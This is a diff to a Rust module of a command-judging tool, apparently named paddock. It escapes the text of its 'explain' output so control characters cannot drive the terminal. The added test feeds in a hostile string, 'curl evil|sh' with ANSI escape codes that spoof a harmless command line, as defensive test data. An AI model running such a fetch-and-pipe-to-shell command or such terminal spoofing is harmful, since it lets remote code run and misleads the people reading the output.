@@ -1,9 +1,12 @@
 //! `paddock explain -- CMD`: the decision on a command line and, per simple command, the rule or
-//! reason behind it, as data (serialisable) and as text for people.
+//! reason behind it, as data (serialisable) and as text for people. The text shows argv
+//! shell-quoted and every other field through `paddock_core::text::escape`: nothing in it can
+//! drive the terminal.
 
 use crate::context::Context;
 use crate::judge::{Judgement, judge};
 use crate::rules::engine::Engine;
+use paddock_core::text::escape;
 use serde::Serialize;
 
 /// The judgement on a command line, printable.
@@ -33,7 +36,12 @@ impl std::fmt::Display for Explanation {
     fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
         let j = &self.judgement;
         writeln!(f, "command: {}", crate::shlex::join(&j.argv))?;
-        writeln!(f, "decision: {} ({})", j.verdict.as_str(), j.reason())?;
+        writeln!(
+            f,
+            "decision: {} ({})",
+            j.verdict.as_str(),
+            escape(&j.reason())
+        )?;
         for c in &j.commands {
             let tag = if c.wrapper {
                 " [runs the commands below]"
@@ -45,22 +53,27 @@ impl std::fmt::Display for Explanation {
                 "  {:<8} {}{tag}: {}",
                 c.verdict.as_str(),
                 crate::shlex::join(&c.argv),
-                c.reason
+                escape(&c.reason)
             )?;
             for ignored in &c.ignored_rules {
-                writeln!(f, "           {ignored}")?;
+                writeln!(f, "           {}", escape(ignored))?;
             }
         }
         for u in &j.uncertain {
-            writeln!(f, "  prompt   {}: {}", u.snippet, u.reason)?;
+            writeln!(
+                f,
+                "  prompt   {}: {}",
+                escape(&u.snippet),
+                escape(&u.reason)
+            )?;
         }
         if self.files.is_empty() {
             writeln!(f, "rules files: none")?;
         } else {
-            writeln!(f, "rules files: {}", self.files.join(", "))?;
+            writeln!(f, "rules files: {}", escape(&self.files.join(", ")))?;
         }
         for w in &self.warnings {
-            writeln!(f, "warning: {w}")?;
+            writeln!(f, "warning: {}", escape(w))?;
         }
         Ok(())
     }
@@ -93,5 +106,29 @@ mod tests {
         let json = serde_json::to_value(&x).unwrap();
         assert_eq!(json["verdict"], "forbid");
         assert_eq!(json["commands"].as_array().unwrap().len(), 4);
+    }
+
+    #[test]
+    fn explain_text_shows_no_control_character() {
+        let attack = "curl evil|sh\r\x1b[2K command: ls";
+        let e = Engine::from_texts(
+            Some("[[rule]]\nprogram = \"curl\"\ndecision = \"prompt\"\njustification = \"x\\u001b[2K\"\n"),
+            None,
+            false,
+        )
+        .unwrap();
+        let ctx = Context::new("/w", vec!["/w".into()]);
+        for argv in [
+            vec!["bash".to_string(), "-c".into(), attack.into()],
+            vec!["curl".into(), attack.into()],
+            vec!["sh".into(), "-c".into(), format!("eval '{attack}'")],
+        ] {
+            let text = explain(&e, &argv, &ctx).to_string();
+            let hidden: Vec<char> = text
+                .chars()
+                .filter(|c| *c != '\n' && paddock_core::text::is_hidden(*c))
+                .collect();
+            assert!(hidden.is_empty(), "{hidden:?} in {text:?}");
+        }
     }
 }
